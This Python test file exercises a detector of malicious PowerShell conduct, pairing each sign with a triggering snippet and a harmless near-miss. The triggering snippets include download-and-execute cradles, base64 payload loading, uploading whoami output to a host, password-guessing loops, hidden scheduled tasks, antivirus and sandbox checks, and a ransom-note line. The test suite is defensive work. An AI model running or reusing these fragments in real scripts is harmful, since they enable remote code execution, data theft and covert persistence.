"""Each sign of conduct is seen in what shows it, and not in what is near it."""

from __future__ import annotations

import pytest

from pipeline.analysis.context import Context
from pipeline.analysis.detecting.conduct import DEEDS, conduct
from pipeline.analysis.detecting.scene import Scene
from pipeline.powershell.script import parse

SHOWN = {
    "attack_name": ("function Install-Backdoor { }", "function Install-BackgroundTask { }"),
    "attack_names": (
        "$shellcode = 1; function Invoke-UacBypass { }",
        "$shell_code_page = 1; Write-Host 'keylogger backdoor'; $level = 'devil', 'reviled'",
    ),
    "attack_talk": ("Write-Host 'shellcode is injected'", "Write-Host 'a shell code page'"),
    "status_marks": ("Write-Output '[*] done'", "Write-Output '[1] done'"),
    "private_types": ("$a.GetType('Microsoft.Win32.UnsafeNativeMethods')", "$a.GetType('Microsoft.Win32.Registry')"),
    "hex_bytes": ("$a = " + ",".join(["0x1f"] * 20), "$a = 0x1f, 0x20"),
    "program_in_open_place": ('$a = "$env:APPDATA\\a.exe"', '$a = "$env:APPDATA\\a.json"'),
    "asks_until_given": (
        "while ($true) { $c = $host.UI.PromptForCredential('a', 'b', '', ''); $c.GetNetworkCredential() }",
        "$c = Get-Credential; $c.GetNetworkCredential()",
    ),
    "guesses_passwords": ("foreach ($p in $list) { $context.ValidateCredentials($u, $p) }", "$context.ValidateCredentials($u, $p)"),
    "shell_shortcut": (
        "$l = $s.CreateShortcut('a.lnk'); $l.TargetPath = 'powershell.exe'",
        "$l = $s.CreateShortcut('a.lnk'); $l.TargetPath = 'notepad.exe'",
    ),
    "attack_function": ("Invoke-DllInjection -Id 1", "$dllInjection = 1"),
    "reflected_natives": (
        "$t.DefinePInvokeMethod('Sleep', 'kernel32.dll')",
        "Add-Type -MemberDefinition '[DllImport(\"kernel32.dll\")] static extern void Sleep(int ms);' -Name K",
    ),
    "system_calls": ("Add-Type '[DllImport(\"ntdll.dll\")] static extern int NtOpenSection(int a);'", "Write-Host 'ntdll'"),
    "many_natives": ("'OpenProcess LoadLibraryA GetProcAddress WriteProcessMemory in kernel32'", "'OpenProcess in kernel32'"),
    "fetches_program": (
        "(New-Object Net.WebClient).DownloadFile('https://x.example/a', 'tool.exe')",
        "Invoke-WebRequest https://x.example/a.csv -OutFile a.csv",
    ),
    "fetches_to_open_place": (
        '$c = New-Object Net.WebClient; $c.DownloadFile($u, "$env:APPDATA\\a.x")',
        "Invoke-WebRequest $u -OutFile $PSScriptRoot\\a.x",
    ),
    "disguised_download": (
        "Invoke-WebRequest https://x.example/logo.jpg -OutFile C:\\a.exe",
        "Invoke-WebRequest https://x.example/logo.jpg -OutFile C:\\logo.jpg",
    ),
    "nameless_host": ("Invoke-WebRequest https://transfer.sh/abc", "Invoke-WebRequest https://www.example.org/bit.ly/abc"),
    "odd_port": ("Invoke-WebRequest http://host.example:4444/x", "Invoke-WebRequest http://localhost:4444/x"),
    "runs_decoded": (
        "$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)); iex $t",
        "$t = [Convert]::FromBase64String($x); iex $other",
    ),
    "runs_registry": ("iex (Get-ItemProperty HKCU:\\Software\\X).code", "$x = (Get-ItemProperty HKCU:\\Software\\X).code; iex $y"),
    "loads_decoded": ("[Reflection.Assembly]::Load([Convert]::FromBase64String($x))", "[Reflection.Assembly]::Load('System.Web')"),
    "drops_decoded": (
        "[IO.File]::WriteAllBytes('a.exe', [Convert]::FromBase64String($x))",
        "[IO.File]::WriteAllBytes('a.png', [Convert]::FromBase64String($x))",
    ),
    "recon": ("whoami; ipconfig /all; systeminfo", "ipconfig /all"),
    "tells_home": ("$w.UploadString($u, (whoami))", "$w.UploadString($u, $text)"),
    "hidden_task": ("$s = New-Object -ComObject Schedule.Service; $d = $s.NewTask(0); $d.Settings.Hidden = $true", "$d.Settings.Hidden = $true"),
    "open_place_persistence": ("schtasks /create /tn x /tr C:\\Users\\Public\\x.cmd", "schtasks /create /tn x /tr 'C:\\Program Files\\x.cmd'"),
    "masquerade": ('Start-Process "$env:APPDATA\\svchost.exe"', "Start-Process C:\\Windows\\System32\\svchost.exe"),
    "code_in_registry": (
        "Set-ItemProperty HKCU:\\Software\\X -Name y -Value 'mshta javascript:a()'",
        "Set-ItemProperty HKCU:\\Software\\X -Name y -Value 'notepad a.txt'",
    ),
    "types_keys": ("[Windows.Forms.SendKeys]::SendWait('{TAB}');" * 5, "[Windows.Forms.SendKeys]::SendWait('{TAB}')"),
    "drops_script": (
        "'Set s = CreateObject(\"WScript.Shell\")' | Set-Content a.vbs",
        "'Set s = CreateObject(\"WScript.Shell\")' | Set-Content a.txt",
    ),
    "waits_for_orders": ("while ($true) { $o = $w.DownloadString($u); Start-Sleep 5 }", "while ($more) { $o = $w.DownloadString($u) }"),
    "hides_window": ("Add-Type '[DllImport(\"user32.dll\")] bool ShowWindow(int a, int b); int GetConsoleWindow();'", "Get-Help about_x -ShowWindow"),
    "removes_traces": ("Remove-Item $MyInvocation.MyCommand.Path", "Remove-Item $env:TEMP\\a.log"),
    "looks_for_scanner": ("gwmi -Namespace root\\SecurityCenter2 -Class AntiVirusProduct", "gwmi Win32_Bios"),
    "looks_for_sandbox": ("$bad = 'VBoxService', 'vmtoolsd', 'wireshark'", "$name = 'VMware'"),
    "extortion": ("Set-Content note.txt 'Your files have been encrypted.'", "Write-Host 'The disk is encrypted.'"),
    "mining": ("Start-Process m -ArgumentList '-o stratum+tcp://pool.example:3333'", "$unit = 'stratum 2'"),
    "hidden_line": ("$c = 'powershell -w hidden -c x'", "$c = 'powershell -File x.ps1'"),
    "cradle_text": ("$c = 'IEX (New-Object Net.WebClient).DownloadString(\"http://x\")'", "$c = 'DownloadString gets a text'"),
    "file_by_net": ("(New-Object Net.WebClient).DownloadFile($u, 'a.csv')", "Invoke-WebRequest $u -OutFile a.csv"),
    "web_client": ("(New-Object Net.WebClient).DownloadString($u)", "Invoke-RestMethod $u"),
    "raw_socket": ("New-Object Net.Sockets.TcpClient('h', 1)", "Test-NetConnection h -Port 1"),
    "one_deed": ("iex $x", "irm https://get.scoop.sh | iex"),
    "screen_lock": ("Add-Type '[DllImport(\"user32.dll\")] bool BlockInput(bool b);'", "Write-Host 'user32 BlockInputs'"),
}


def seen(text: str) -> set[str]:
    return conduct(Scene(Context(parse(text))))


def test_every_sign_is_shown() -> None:
    assert SHOWN.keys() == DEEDS.keys()


@pytest.mark.parametrize("sign", DEEDS)
def test_sign(sign: str) -> None:
    shows, near = SHOWN[sign]
    assert sign in seen(shows)
    assert sign not in seen(near)


def test_nothing_in_an_ordinary_script() -> None:
    assert not seen("param($Path)\nGet-ChildItem $Path | Where-Object Length -gt 1MB | Remove-Item -WhatIf\n")
